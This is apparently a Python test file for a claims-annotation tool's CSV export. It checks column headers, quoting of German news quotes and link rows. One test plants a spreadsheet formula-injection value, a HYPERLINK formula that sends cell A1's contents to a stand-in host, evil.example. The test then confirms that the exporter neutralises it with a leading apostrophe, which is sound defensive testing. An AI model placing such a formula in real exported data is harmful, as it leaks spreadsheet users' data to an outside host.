"""CSV: headers, one row per claim and per link, and fields that survive the csv module."""

import csv
import io

from claims.exports.csv import CLAIM_COLUMNS, LINK_COLUMNS
from claims.models import Claim, Entity, Link
from tests.claims.exports.conftest import export, unzip


def rows(files: dict[str, bytes], name: str) -> list[dict]:
    text = files[name].decode("utf-8")
    assert not text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_headers_and_row_counts(data):
    files = unzip(export(data.project, "csv"))
    assert sorted(files) == ["README.md", "claims.csv", "links.csv"]
    header = files["claims.csv"].decode().split("\r\n", 1)[0]
    assert header.split(",") == CLAIM_COLUMNS
    assert files["links.csv"].decode().split("\r\n", 1)[0].split(",") == LINK_COLUMNS
    assert len(rows(files, "claims.csv")) == 8
    assert [int(r["link_id"]) for r in rows(files, "links.csv")] == [
        data.links.across.pk,
        data.links.inside.pk,
        data.links.troops.pk,
    ]


def test_commas_quotes_and_line_breaks_round_trip(data):
    files = unzip(export(data.project, "csv"))
    by_id = {int(r["claim_id"]): r for r in rows(files, "claims.csv")}
    said = by_id[data.claims.said.pk]
    assert said["quote"] == '„Russland, unser Freund, "hilft"\r\nimmer.“'
    assert said["quote"] == data.claims.said.quote
    assert said["sources"] == (
        "Kim Jong-un (official_person, direct_quote) | KCNA (state_media, reported)"
    )
    assert said["cues"] == "sagte Kim | Nach Angaben der Nachrichtenagentur KCNA"
    treaty = by_id[data.claims.treaty.pk]
    assert treaty["note"] == "Datum laut „Quelle“, unsicher"
    assert (treaty["when"], treaty["modality"]) == ("2024-06", "hedged")
    meeting = by_id[data.claims.meeting.pk]
    assert meeting["participants"] == "Kim Jong-un | Sergei Schoigu"
    assert meeting["place"] == "Pjöngjang"
    for row in by_id.values():
        article = next(a for a in vars(data.articles).values() if a.pk == int(row["article_id"]))
        assert article.text[int(row["start"]) : int(row["end"])] == row["quote"]


def test_link_rows_name_both_articles(data):
    files = unzip(export(data.project, "csv"))
    across = rows(files, "links.csv")[0]
    assert across | {"created_at": "", "updated_at": ""} == {
        "link_id": str(data.links.across.pk),
        "from_claim": str(data.claims.meeting.pk),
        "to_claim": str(data.claims.talks.pk),
        "from_article": str(data.articles.emoji.pk),
        "to_article": str(data.articles.plain.pk),
        "relation": "same_event",
        "note": "Beide: 13. September",
        "status": "accepted",
        "annotator": "rita",
        "created_at": "",
        "updated_at": "",
    }


def test_readme_states_the_offset_unit(data):
    readme = unzip(export(data.project, "csv"))["README.md"].decode()
    assert "Offsets are Unicode code points" in readme
    assert "## Licence\n\nunspecified — set by the project manager" in readme


def test_text_a_spreadsheet_would_run_as_a_formula_gets_a_leading_apostrophe(data):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Quelle")'
    Claim.objects.filter(pk=data.claims.treaty.pk).update(note=formula)
    Link.objects.filter(pk=data.links.across.pk).update(note="+1 und -1")
    Entity.objects.filter(pk=data.entities.kim.pk).update(name="@SUMME(1;2)")
    Entity.objects.filter(pk=data.entities.shoigu.pk).update(name="-2+3")

    files = unzip(export(data.project, "csv"))

    by_id = {int(r["claim_id"]): r for r in rows(files, "claims.csv")}
    assert by_id[data.claims.treaty.pk]["note"] == "'" + formula
    assert by_id[data.claims.meeting.pk]["participants"] == "'@SUMME(1;2) | -2+3"
    assert rows(files, "links.csv")[0]["note"] == "'+1 und -1"
    # Numbers and ordinary text are written as they are.
    assert by_id[data.claims.meeting.pk]["place"] == "Pjöngjang"
    assert int(by_id[data.claims.meeting.pk]["start"]) == data.claims.meeting.start
    assert "leading\n`'`" in files["README.md"].decode()
